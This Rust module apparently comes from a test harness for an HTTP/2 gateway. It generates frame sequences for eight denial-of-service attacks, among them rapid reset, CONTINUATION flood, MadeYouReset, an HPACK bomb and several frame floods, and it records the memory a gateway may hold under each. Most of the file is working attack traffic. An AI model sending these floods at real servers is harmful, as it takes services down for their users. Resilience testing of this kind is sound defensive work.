//! The attacks themselves: what is sent first, and what is sent again and again.

use super::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, literal, preface, pseudo, request,
};

/// An attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Requests that are cancelled at once (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends (CVE-2024-27316).
    Continuation,
    /// Requests after which the server is made to reset the stream itself (CVE-2025-8671).
    MadeYouReset,
    /// One-byte references to a long header (CVE-2026-49975), on streams that take no answer.
    HpackBomb,
    /// CVE-2019-9512.
    Pings,
    /// CVE-2019-9515.
    Settings,
    /// CVE-2019-9518.
    EmptyData,
    /// Requests for large answers that are never taken.
    ZeroWindow,
}

impl Kind {
    /// Every one.
    pub const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::Continuation,
        Self::MadeYouReset,
        Self::HpackBomb,
        Self::Pings,
        Self::Settings,
        Self::EmptyData,
        Self::ZeroWindow,
    ];

    /// Its name.
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION flood",
            Self::MadeYouReset => "MadeYouReset",
            Self::HpackBomb => "HPACK bomb",
            Self::Pings => "PING flood",
            Self::Settings => "SETTINGS flood",
            Self::EmptyData => "empty DATA flood",
            Self::ZeroWindow => "zero window",
        }
    }

    /// What the gateway may hold for one connection of it, in KiB: a window and the longest header list, or for each
    /// stalled stream what has been read of an answer that nobody takes.
    pub fn bound(self) -> u64 {
        match self {
            Self::ZeroWindow => u64::from(STALLED) * 64,
            Self::RapidReset
            | Self::Continuation
            | Self::MadeYouReset
            | Self::HpackBomb
            | Self::Pings
            | Self::Settings
            | Self::EmptyData => 1024,
        }
    }

    /// One connection's part in it.
    pub fn fighter(self) -> Fighter {
        Fighter { kind: self, stream: 1, turns: 0 }
    }
}

/// One connection's part in an attack.
#[derive(Debug)]
pub struct Fighter {
    kind: Kind,
    stream: u32,
    turns: u32,
}

impl Fighter {
    /// What is sent first.
    pub fn opening(&mut self) -> Vec<u8> {
        let nothing_is_taken = [(INITIAL_WINDOW_SIZE, 0)];
        match self.kind {
            Kind::HpackBomb | Kind::ZeroWindow => preface(&nothing_is_taken),
            Kind::Continuation => {
                let mut bytes = preface(&[]);
                bytes.extend(frame(HEADERS, END_STREAM, self.stream, &pseudo(SMALL)));
                bytes
            }
            Kind::EmptyData => {
                let mut bytes = preface(&[]);
                bytes.extend(request(self.stream, END_HEADERS, SMALL, &[]));
                bytes
            }
            Kind::RapidReset | Kind::MadeYouReset | Kind::Pings | Kind::Settings => preface(&[]),
        }
    }

    /// What is sent next; `None` if all has been said.
    pub fn next(&mut self) -> Option<Vec<u8>> {
        self.turns += 1;
        let mut bytes = Vec::new();
        match self.kind {
            Kind::RapidReset => self.streams(&mut bytes, 100, |bytes, stream| {
                bytes.extend(request(stream, END_HEADERS | END_STREAM, SMALL, &[]));
                bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
            }),
            Kind::MadeYouReset => self.streams(&mut bytes, 50, |bytes, stream| {
                bytes.extend(request(stream, END_HEADERS | END_STREAM, SMALL, &[]));
                // No increment, or one that overflows: both are errors of the stream (RFC 9113 section 6.9).
                let increment: u32 = if stream % 4 == 1 { 0 } else { 0x7fff_ffff };
                bytes.extend(frame(WINDOW_UPDATE, 0, stream, &increment.to_be_bytes()));
            }),
            Kind::Continuation => {
                let field = literal(&format!("x-{}", self.turns), &[b'v'; 8_000], false);
                bytes.extend(frame(CONTINUATION, 0, self.stream, &[&field[..], &field[..]].concat()));
            }
            Kind::HpackBomb => {
                let stream = self.next_stream();
                let long = literal("x", &[b'v'; 4_000], self.turns == 1);
                // The newest entry of the dynamic table has the index 62.
                let references = vec![0x80 | 62; 8_000];
                let first = if self.turns == 1 { long } else { Vec::new() };
                let block = [pseudo(SMALL), first, references].concat();
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
            }
            Kind::Pings => (0..500).for_each(|_| bytes.extend(frame(PING, 0, 0, &[7; 8]))),
            Kind::Settings => (0..500).for_each(|_| bytes.extend(frame(SETTINGS, 0, 0, &[]))),
            Kind::EmptyData => (0..500).for_each(|_| bytes.extend(frame(DATA, 0, self.stream, &[]))),
            Kind::ZeroWindow if self.turns > 1 => return None,
            Kind::ZeroWindow => self.streams(&mut bytes, STALLED, |bytes, stream| {
                bytes.extend(request(stream, END_HEADERS | END_STREAM, LARGE, &[]));
            }),
        }
        Some(bytes)
    }

    fn streams(&mut self, bytes: &mut Vec<u8>, count: u32, mut each: impl FnMut(&mut Vec<u8>, u32)) {
        for _ in 0..count {
            let stream = self.next_stream();
            each(bytes, stream);
        }
    }

    fn next_stream(&mut self) -> u32 {
        let stream = self.stream;
        self.stream = (stream + 2) & 0x7fff_ffff;
        stream
    }
}

/// Streams of a connection that takes nothing.
const STALLED: u32 = 100;

/// The host whose answers are small.
pub const SMALL: &str = "small.test";

/// The host whose answers are large.
pub const LARGE: &str = "large.test";
